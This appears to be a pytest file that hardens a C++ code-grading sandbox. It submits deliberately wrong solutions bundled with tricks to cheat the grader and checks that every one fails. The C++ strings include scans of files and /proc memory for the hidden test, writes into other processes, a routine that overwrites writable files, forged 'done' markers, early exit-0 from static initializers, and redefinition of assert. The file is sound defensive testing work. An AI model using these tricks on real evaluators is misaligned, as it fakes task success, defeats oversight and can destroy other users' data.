"""C++ verdict forgery on the split (docs/integrity.md), through the real engine, g++ and
sandbox: every forger runs batched and alone, with the policy filter on and off.

Each forger is a WRONG solution plus a trick. The readers are canaries: they answer
correctly only when their trick found what it looked for (the test's source or binary,
an honest neighbour's source or binary, a way into another process), so a pass means a
breach, not luck. The decoder attacks send the right answers in forms only a lax decoder
takes (an integer that wraps to the right one, `2.0` for `2`, trailing bytes...), so
they too would pass were the stub lax; with the filter off their failure must come from
the stub's own refusal. Honest samples beside the forgers keep their verdicts, and every
verdict is the same batched and alone.

Tests are named after the attack class they stop; the evaluations behind them run once
per module (``verdicts``).

"""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path

import pytest

import vibes_eval
from tests.components import need
from tests.conftest import SANDBOX, batch_modes, forgery_modes

# Built from parts: this file must not hold them whole, or a reader finding it would be
# a false breach.
TEST_SECRET = "vibes-test-" + "secret-5e1f"  # in the test program's source and binary
NEIGHBOUR_SECRET = "vibes-neighbour-" + "secret-7c2d"  # in the honest neighbour's

ROW_X = {
    "task_id": "CPP/0",
    "prompt": "/*\nAdd.\n*/\n#include<stdio.h>\n#include<vector>\nusing namespace std;\n"
              "int helper(int x){ return x; }\nvector<int> add_all(vector<int> xs, int k){\n",
    "declaration": "#include<stdio.h>\n#include<vector>\nusing namespace std;\n#include<algorithm>\n"
                   "vector<int> add_all(vector<int> xs, int k){\n",
    "canonical_solution": "    for (auto &x : xs) x += helper(k);\n    return xs;\n}\n",
    "test": "#undef NDEBUG\n#include<assert.h>\nbool issame(vector<int> a, vector<int> b){\n"
            "    return a == b;\n}\nint main(){\n"
            f'    assert (issame(add_all({{1, 2}}, 1), {{2, 3}}) && "{TEST_SECRET}");\n'
            "    assert (issame(add_all({}, 1), {}));\n}\n",
}  # fmt: skip
ROW_M = {
    "name": "HumanEval_53_add",
    "language": "cpp",
    "prompt": "#include<assert.h>\n#include<bits/stdc++.h>\n// Add two numbers x and y\n"
              "long add(long x, long y) {\n",
    "tests": "}\nint main() {\n    auto candidate = add;\n"
             f'    assert(candidate((0), (1)) == (1) && "{TEST_SECRET}");\n'
             "    assert(candidate((5), (7)) == (12));\n}\n",
    "stop_tokens": ["\n}"],
}  # fmt: skip
HONEST_X = {
    "right": ROW_X["canonical_solution"],
    "wrong": "    return xs;\n}\n",
    "neighbour": f'    static const char *tag = "{NEIGHBOUR_SECRET}"; // {NEIGHBOUR_SECRET}\n'
                 "    if (tag[0] == 0) return {};\n"
                 "    for (auto &x : xs) x += helper(k);\n    return xs;\n}\n",
}  # fmt: skip
HONEST_M = {"right": "    return x + y;\n", "wrong": "    return x - y;\n"}


def _reversed(text: str) -> str:
    return text[::-1]


# -- the pieces forgers share ---------------------------------------------------------------

# A wrong answer, unless vibes_found() (the trick's own) says the trick worked.
CANARY = """\
    bool vibes_found();
    if (vibes_found()) { for (auto &x : xs) x += k; return xs; }
    return xs;
}
"""
POSIX = """\
#include <algorithm>
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <string>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static std::string vx_needle(const char *reversed) {
    std::string s(reversed);
    std::reverse(s.begin(), s.end());
    return s;
}
static double vx_now() {
    timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}
static bool vx_has(const std::string &path, const std::string &needle) {
    int fd = open(path.c_str(), O_RDONLY | O_NONBLOCK | O_CLOEXEC);
    if (fd < 0) return false;
    std::string data;
    char buf[65536];
    ssize_t n;
    while (data.size() < (16u << 20) && (n = read(fd, buf, sizeof buf)) > 0) data.append(buf, n);
    close(fd);
    return data.find(needle) != std::string::npos;
}
static void vx_send(const std::string &bytes) {  // onto every pipe we hold: the wire is one
    for (int fd = 3; fd < 64; ++fd) {
        struct stat st;
        if (fstat(fd, &st) != 0 || !S_ISFIFO(st.st_mode)) continue;
        for (size_t off = 0; off < bytes.size();) {
            ssize_t w = write(fd, bytes.data() + off, bytes.size() - off);
            if (w <= 0) break;
            off += size_t(w);
        }
    }
}
"""
WALK = """\
static double vx_deadline = 0;
static bool vx_walk(const std::string &dir, const std::string &needle, int depth) {
    if (depth > 6 || vx_now() > vx_deadline) return false;
    DIR *d = opendir(dir.c_str());
    if (d == nullptr) return false;
    bool found = false;
    while (!found) {
        dirent *e = readdir(d);
        if (e == nullptr) break;
        std::string name = e->d_name;
        if (name == "." || name == ".." || name == "self" || name == "thread-self") continue;
        std::string path = dir + "/" + name;
        struct stat st;
        if (lstat(path.c_str(), &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) found = vx_walk(path, needle, depth + 1);
        else if (S_ISREG(st.st_mode) && st.st_size < (16 << 20)) found = vx_has(path, needle);
    }
    closedir(d);
    return found;
}
static bool vx_anywhere(const std::string &needle) {
    vx_deadline = vx_now() + 3.0;
    const char *roots[] = {".", "..", "../..", "../../..", "/tmp", "/var/tmp", "/dev/shm",
                           "/run", "/root", "/home", "/work", "/srv", "/mnt", "/opt", "/var",
                           "/proc", "/"};
    for (const char *root : roots)
        if (vx_walk(root, needle, 0)) return true;
    return false;
}
"""
# Other processes (the test program is one): their memory, files, environment, and a
# way to write into them.
PROC = """\
static bool vx_memory_has(const std::string &pid, const std::string &needle) {
    FILE *maps = fopen(("/proc/" + pid + "/maps").c_str(), "r");
    int mem = open(("/proc/" + pid + "/mem").c_str(), O_RDONLY);
    bool found = false;
    char line[512];
    while (maps != nullptr && mem >= 0 && !found && fgets(line, sizeof line, maps)) {
        unsigned long a, b;
        char perms[8];
        if (sscanf(line, "%lx-%lx %7s", &a, &b, perms) != 3 || perms[0] != 'r') continue;
        std::string data(std::min(b - a, 64ul << 20), '\\0');
        ssize_t n = pread(mem, &data[0], data.size(), off_t(a));
        found = n > 0 && data.substr(0, size_t(n)).find(needle) != std::string::npos;
    }
    if (maps != nullptr) fclose(maps);
    if (mem >= 0) close(mem);
    return found;
}
static bool vx_processes(const std::string &needle) {
    DIR *d = opendir("/proc");
    if (d == nullptr) return false;
    std::string self = std::to_string(getpid());
    bool found = false;
    while (dirent *e = readdir(d)) {
        std::string pid = e->d_name;
        if (pid.find_first_not_of("0123456789") != std::string::npos || pid == self) continue;
        std::string at = "/proc/" + pid;
        for (const char *part : {"/cmdline", "/environ", "/exe", "/cwd/test.cpp", "/cwd/test"})
            found = found || vx_has(at + part, needle);
        found = found || vx_memory_has(pid, needle);
        int w = open((at + "/mem").c_str(), O_RDWR);  // could patch the test's code
        found = found || w >= 0;
        int err = open((at + "/fd/2").c_str(), O_WRONLY);  // could write its stderr
        if (err >= 0) {
            found = found || write(err, "\\nvibes-tests: done\\n", 19) > 0;
            close(err);
        }
    }
    closedir(d);
    return found;
}
"""


def _found(body: str) -> str:
    return f"bool vibes_found() {{\n{body}\n}}\n"


def _exact(answer: str) -> str:
    """Decoder attacks on CPP/0: the first call's answer ({2, 3}) goes out in ``answer``'s
    form straight onto the wire; the server's own frame for it ({}) then answers the second
    call (add_all({}, 1) == {}). Only a decoder taking ``answer`` as {2, 3} passes it."""
    return (
        '    static int calls = 0;\n    if (calls++ == 0) {\n        void vx_attack();\n'
        f"        vx_attack();\n        return {{}};\n    }}\n    return xs;\n}}\n{POSIX}"
        f'void vx_attack() {{ vx_send(std::string("\\n\\x02V ret ") + {answer} + "\\n"); }}\n'
    )  # fmt: skip


HASH = "t_" + hashlib.sha256(b"CPP/0").hexdigest()[:12]
GUESSED_PATHS = ["test.cpp", "../test.cpp", f"../{HASH}/test.cpp", f"../../{HASH}/test.cpp",
                 "../s0/main.cpp", "../s1/main.cpp", "../s2/main.cpp", "../s3/main.cpp",
                 "/proc/self/cwd/../test.cpp", "/tmp/test.cpp"]  # fmt: skip

FORGERS_X: dict[str, str] = {
    # -- reading the test or its expected values ----------------------------------------
    "compile_time_include_of_guessed_paths": CANARY
    + "".join(f'#if __has_include("{p}")\n#define VX_SAW 1\n#endif\n' for p in GUESSED_PATHS)
    + "#ifndef VX_SAW\n#define VX_SAW 0\n#endif\n"
    + _found("    return VX_SAW;"),
    "compile_time_incbin_by_token_pasting": CANARY  # red team A7, on the split
    + "#define VJ(a, b) a##b\n"
    + "".join(
        f'#if __has_include("{p}")\nVJ(as, m)(".pushsection .rodata\\nvx_blob{n}: .incbin '
        f'\\"{p}\\"\\n.popsection");\n#define VX_SAW 1\n#endif\n'
        for n, p in enumerate(GUESSED_PATHS)
    )
    + "#ifndef VX_SAW\n#define VX_SAW 0\n#endif\n"
    + _found("    return VX_SAW;"),
    "run_time_search_of_files_for_the_test": CANARY
    + POSIX
    + WALK
    + _found(f'    return vx_anywhere(vx_needle("{_reversed(TEST_SECRET)}"));'),
    "run_time_search_of_processes_for_the_test": CANARY
    + POSIX
    + PROC
    + _found(f'    return vx_processes(vx_needle("{_reversed(TEST_SECRET)}"));'),
    "environment_and_argv": CANARY
    + POSIX
    + "extern char **environ;\n"
    + _found(
        f'    std::string needle = vx_needle("{_reversed(TEST_SECRET)}");\n'
        "    for (char **e = environ; e != nullptr && *e != nullptr; ++e)\n"
        '        if (std::strstr(*e, needle.c_str()) || std::strstr(*e, "VIBES")) return true;\n'
        '    return vx_has("/proc/self/cmdline", needle) || vx_has("/proc/self/environ", needle);'
    ),
    # -- reaching a neighbour -----------------------------------------------------------
    "run_time_search_for_a_neighbour": CANARY
    + POSIX
    + WALK
    + _found(f'    return vx_anywhere(vx_needle("{_reversed(NEIGHBOUR_SECRET)}"));'),
    "vandalise_what_is_writable": CANARY
    + POSIX
    + """\
static void vx_spoil(const std::string &dir, int depth) {
    DIR *d = opendir(dir.c_str());
    if (d == nullptr || depth > 3) { if (d) closedir(d); return; }
    while (dirent *e = readdir(d)) {
        std::string name = e->d_name;
        if (name == "." || name == "..") continue;
        std::string path = dir + "/" + name;
        struct stat st;
        if (lstat(path.c_str(), &st) != 0) continue;
        if (S_ISDIR(st.st_mode)) { vx_spoil(path, depth + 1); continue; }
        int fd = open(path.c_str(), O_WRONLY | O_TRUNC);
        if (fd >= 0) { if (write(fd, "spoilt\\n", 7) < 0) {} close(fd); }
    }
    closedir(d);
}
"""
    + _found(
        '    for (const char *root : {"..", "../..", "/tmp", "/var/tmp", "/dev/shm"})'
        " vx_spoil(root, 0);\n    return false;"
    ),
    # -- forging the result -------------------------------------------------------------
    "done_marker_and_exit_0_from_a_static_initializer": "    return xs;\n}\n"
    + POSIX
    + """\
struct VxEarly {
    VxEarly() {
        const char line[] = "\\nvibes-tests: done\\n";
        for (int fd = 1; fd < 64; ++fd) if (write(fd, line, sizeof line - 1) < 0) {}
        _exit(0);
    }
} vx_early;
""",
    "fake_frames_from_a_static_initializer": "    return xs;\n}\n"
    + POSIX
    + """\
struct VxFrames {  // before `main`: stdout is still the wire
    VxFrames() {
        const char f[] = "\\x02V done\\n\\x02V pass\\nvibes-tests: done\\n\\x02V call []\\n";
        if (write(1, f, sizeof f - 1) < 0) {}
    }
} vx_frames;
""",
    "exit_0_in_the_entry_point": "    if (!xs.empty()) std::_Exit(0);\n    return xs;\n}\n"
    + POSIX,
    "raw_exit_group_system_call": (
        '    asm volatile("syscall" : : "a"(231), "D"(0) : "memory");\n    return xs;\n}\n'
    ),
    "atexit_and_quick_exit_handlers": "    if (!xs.empty()) std::quick_exit(0);\n    std::exit(0);\n}\n"
    + POSIX
    + "#include <cstdlib>\n"
    "void vx_done() { const char l[] = \"\\nvibes-tests: done\\n\"; if (write(2, l, sizeof l - 1) < 0) {} }\n"
    "static int vx_hooks = (std::atexit(vx_done), std::at_quick_exit(vx_done), 0);\n",
    "abort_and_terminate_handlers": "    std::abort();\n}\n"
    + POSIX
    + "#include <exception>\n"
    "void vx_zero(int) { const char l[] = \"\\nvibes-tests: done\\n\"; if (write(2, l, sizeof l - 1) < 0) {} _exit(0); }\n"
    "static int vx_hooks = (signal(SIGABRT, vx_zero), std::set_terminate([] { vx_zero(0); }), 0);\n",
    "stdin_token_pasting_static_initializer": "    return xs;\n}\n"  # red team A3, on the split
    + "#include <iostream>\n#define VJ(a, b) a##b\n"
    "struct VxA3 { VxA3() { std::string t; std::getline(std::VJ(ci, n), t);"
    ' printf("\\n%s\\nvibes-tests: done\\n", t.c_str()); fflush(stdout); std::VJ(_Ex, it)(0); } } vx_a3;\n',
    "code_hidden_from_the_filter_by_digit_separators": "    return xs;\n}\n"
    "int vx_a = 1'0;\nstruct VxHidden { VxHidden() { std::_Exit(0); } } vx_hidden;\nint vx_b = 2'0;\n"
    'const char *vx_raw = R"x( " )x"; struct VxHidden2 { VxHidden2() { std::_Exit(0); } } vx_h2;\n',
    "process_writes_into_the_test": CANARY
    + POSIX
    + PROC
    + _found("    return vx_processes(\"no-such-needle\");"),
    # -- changing the test's meaning at compile time --------------------------------------
    "macros_and_overloads_for_the_test": "    return {};\n}\n"
    "bool operator==(const vector<int>&, const vector<int>&) { return true; }\n"
    '#define assert(x) (void)0\n#define issame(a, b) true\nextern "C" void __assert_fail() {}\n'
    "int vibes_test_main() { return 0; }\nint helper(long x) { return 0; }\n",
    "silent_assert_fail": '    return {};\n}\nextern "C" void __assert_fail() {}\n',
    # -- hostile frames against the stub's decoder ------------------------------------------
    "integer_that_wraps_to_the_answer": _exact('"[4294967298,4294967299]"'),
    "floats_where_ints_are_expected": _exact('"[2.0,3e0]"'),
    "nan_where_an_int_is_expected": _exact('"[\\"NaN\\",3]"'),
    "trailing_bytes_after_the_answer": _exact('"[2,3] ]]"'),
    "unterminated_answer": _exact('"[2,3"'),
    "a_tagged_value_for_a_vector": _exact('"{\\"$t\\":\\"vector<int>\\",\\"v\\":[2,3]}"'),
    "deep_nesting": _exact('std::string(1000000, \'[\')'),
    "oversize_frame": _exact('"[2," + std::string(70u << 20, \' \') + "3]"'),
    "raise_carrying_the_done_marker": '    throw std::runtime_error("x\\nvibes-tests: done\\n");\n}\n'
    '#include <stdexcept>\n',
}  # fmt: skip

# Stopped by the stub's decoder: with the filter off, its refusal is the failure's detail.
DECODER = {name for name, code in FORGERS_X.items() if "vx_attack" in code}
REFUSALS = ("malformed", "over 64 MiB")

FORGERS_M: dict[str, str] = {
    "multiple_done_marker_and_exit_0": "    return x - y;\n}\n#include <unistd.h>\n"
    "struct VxEarly { VxEarly() { if (write(2, \"\\nvibes-tests: done\\n\", 19) < 0) {} _exit(0); } } vx_early;\n"
    "void vx_unused() {\n",
    "multiple_long_that_wraps_to_the_answer": "    static int calls = 0;\n"
    "    if (calls++ == 0) {  // fd 3: the wire's end, once the server moved stdout aside\n"
    "        FILE *w = fdopen(3, \"w\");\n"
    "        fputs(\"\\n\\x02V ret 18446744073709551617\\n\", w);\n"
    "        fflush(w);\n        return 12;\n    }\n"
    "    return 0;\n",
    "multiple_exit_0_in_the_entry_point": "    exit(0);\n",
}  # fmt: skip


def _evaluate(tmp: Path, row: dict, samples: list[dict], *, batch: bool, policy: bool) -> list:
    path = tmp / f"problems-{row.get('task_id', row.get('name'))}.jsonl".replace("/", "_")
    path.write_text(json.dumps(row) + "\n")
    config = {"problems": str(path), "batch": batch, "enforce_policy": policy,
              "limits": {"timeout_s": 10}}  # fmt: skip
    out = vibes_eval.evaluate("humaneval-cpp", samples, sandbox=SANDBOX, ks=[1], config=config,
                              use_cache=False)  # fmt: skip
    return [out.results[s.key] for s in out.prepared.samples]


def _samples(key: str, task: str, honest: dict[str, str], forgers: dict[str, str]) -> list:
    """Honest samples first and last, the forgers between them (batched, they share units)."""
    names = [*(f"honest_{n}" for n in honest), *forgers, *(f"honest_{n}_again" for n in honest)]
    codes = [*honest.values(), *forgers.values(), *honest.values()]
    return [
        (name, {key: task, "completion": code}) for name, code in zip(names, codes, strict=True)
    ]


@pytest.fixture(scope="module")
def verdicts(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """{(policy, batch): {sample name: result}} for both task shapes."""
    need("toolchains", None if shutil.which("g++") else "g++ is not installed")
    tmp = tmp_path_factory.mktemp("forgery-cpp")
    x = _samples("task_id", "CPP/0", HONEST_X, FORGERS_X)
    m = _samples("name", "HumanEval_53_add", HONEST_M, FORGERS_M)
    out: dict = {}
    for policy, batch in MODES:
        got = {}
        for row, named in ((ROW_X, x), (ROW_M, m)):
            results = _evaluate(tmp, row, [s for _, s in named], batch=batch, policy=policy)
            got.update({name: r for (name, _), r in zip(named, results, strict=True)})
        out[policy, batch] = got
    return out


MODES = forgery_modes()


def _mode(policy: bool, batch: bool) -> str:
    return f"{'policy' if policy else 'no-policy'}/{'batched' if batch else 'alone'}"


def _none_pass(verdicts: dict, names: list[str]) -> None:
    for policy, batch in MODES:
        for name in names:
            res = verdicts[policy, batch][name]
            assert not res.passed, f"{name} passed ({_mode(policy, batch)}): {res.detail}"
            assert res.reason != "infra_error", (name, _mode(policy, batch), res.detail)


def _named(*prefixes: str) -> list[str]:
    names = [*FORGERS_X, *FORGERS_M]
    return [n for n in names if n.startswith(prefixes)]


@pytest.mark.slow
def test_reading_the_test_at_compile_time_fails(verdicts: dict) -> None:
    _none_pass(verdicts, _named("compile_time_"))


@pytest.mark.slow
def test_reading_the_test_at_run_time_fails(verdicts: dict) -> None:
    """Files, other processes (/proc: memory, environment, command line), our own
    environment and argv: the test is in none of them."""
    _none_pass(verdicts, _named("run_time_search_of", "environment_and_argv"))


@pytest.mark.slow
def test_reaching_a_neighbour_fails(verdicts: dict) -> None:
    _none_pass(verdicts, _named("run_time_search_for_a_neighbour", "vandalise_"))


@pytest.mark.slow
def test_forging_the_result_fails(verdicts: dict) -> None:
    """The done marker, fake frames, exiting 0 early (static initializers, the entry
    point, a raw exit_group), exit/abort/terminate handlers, stdin read before `main`
    (red team A3), code hidden from the filter, writing into another process."""
    _none_pass(verdicts, _named(
        "done_marker", "fake_frames", "exit_0", "raw_exit", "atexit", "abort_", "stdin_",
        "code_hidden", "process_writes", "multiple_done", "multiple_exit",
    ))  # fmt: skip


@pytest.mark.slow
def test_changing_the_tests_meaning_at_compile_time_fails(verdicts: dict) -> None:
    """Macros, an always-true `==`, an overload of the prompt's helper, a second
    `vibes_test_main`, a silent `__assert_fail`: all in the candidate's unit, none in the
    test's."""
    _none_pass(verdicts, _named("macros_and_overloads", "silent_assert_fail"))


@pytest.mark.slow
def test_hostile_frames_are_refused_by_the_stub(verdicts: dict) -> None:
    _none_pass(verdicts, [*sorted(DECODER), "raise_carrying_the_done_marker",
                          "multiple_long_that_wraps_to_the_answer"])  # fmt: skip
    for batch in (True, False):
        for name in sorted(DECODER):
            res = verdicts[False, batch][name]
            assert any(r in res.detail for r in REFUSALS), (name, res.reason, res.detail)
        raised = verdicts[False, batch]["raise_carrying_the_done_marker"]
        assert raised.detail.startswith("the candidate raised: x vibes-tests: done"), raised.detail


@pytest.mark.slow
def test_honest_neighbours_keep_their_verdicts(verdicts: dict) -> None:
    for policy, batch in MODES:
        got = verdicts[policy, batch]
        for suffix in ("", "_again"):
            for name in ("right", "neighbour", "wrong"):
                res = got[f"honest_{name}{suffix}"]
                assert res.passed == (name != "wrong"), (name, _mode(policy, batch), res.detail)
                assert res.details["trust"] == "split"
        assert [got[f"honest_{n}"].passed for n in HONEST_M] == [True, False]


@pytest.mark.slow
def test_batched_equals_alone(verdicts: dict) -> None:
    for policy in [p for p in (True, False) if len(batch_modes(p)) == 2]:
        batched, alone = verdicts[policy, True], verdicts[policy, False]
        key = {n: (r.passed, r.reason, r.detail) for n, r in batched.items()}
        assert key == {n: (r.passed, r.reason, r.detail) for n, r in alone.items()}
